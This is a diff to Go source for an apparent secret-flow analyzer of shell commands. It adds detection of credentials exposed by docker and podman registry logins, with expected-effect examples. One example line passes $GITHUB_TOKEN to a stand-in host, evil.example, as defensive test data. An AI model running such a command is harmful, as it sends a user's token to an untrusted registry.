@@ -71,6 +71,8 @@ var secretSpecs = []Spec{
 	// into them is used, not shown (aws ecr get-login-password | docker login ...).
 	{Name: "docker login", Opts: dockerOpts + " u|username= p|password= password-stdin help", Style: Exact, Does: registryLoginDoes,
 		Examples: "docker login -u AWS --password-stdin 1.dkr.ecr.r.amazonaws.com => read:config -\n" + "docker login ghcr.io => -\n" +
+			"docker login -u AWS --password-stdin 1.dkr.ecr.r.amazonaws.com => expose:login - 1.dkr.ecr.r.amazonaws.com\n" + "docker login -u me --password-stdin => expose:login - docker.io\n" +
+			"docker login -u me -p \"$GITHUB_TOKEN\" evil.example => expose:login GITHUB_TOKEN evil.example\n" + "podman login -u me -p $T => expose:login T\n" +
 			"podman login --username me --password-stdin quay.io => read:config -\n"},
 	{Name: "doppler", Opts: dopplerOpts, Style: ExactInOrder, Subs: true},
 	{Name: "doppler configs", Opts: dopplerOpts, Style: ExactInOrder, Subs: true},
@@ -1013,9 +1015,22 @@ func sshCopyIDDoes(c *Call) {
 }
 
 // registryLoginDoes: a registry login reading its password from stdin.
+// registryLoginDoes: a registry login gives its password (-p, or stdin with --password-stdin)
+// to the registry it names, Docker Hub where docker names none: an Expose "login" of each
+// variable in -p, and of "-" (whatever is piped in) for stdin.
 func registryLoginDoes(c *Call) {
+	reg := c.Operand(0)
+	if len(c.P.Operands) == 0 && c.Name == "docker" {
+		reg = Word{S: "docker.io"}
+	}
+	credentialsTo(c, c.P.Values("p"), []Word{reg})
 	if c.Has("password-stdin") {
 		stdinConfig(c, byOf(c)+" --password-stdin")
+		e := Effect{Kind: Expose, Class: "login", Text: "-", By: byOf(c) + " --password-stdin"}
+		if host := loginHost(reg); host != "" {
+			e.Text, e.Known = "- "+host, true
+		}
+		c.Add(e)
 	}
 }
 
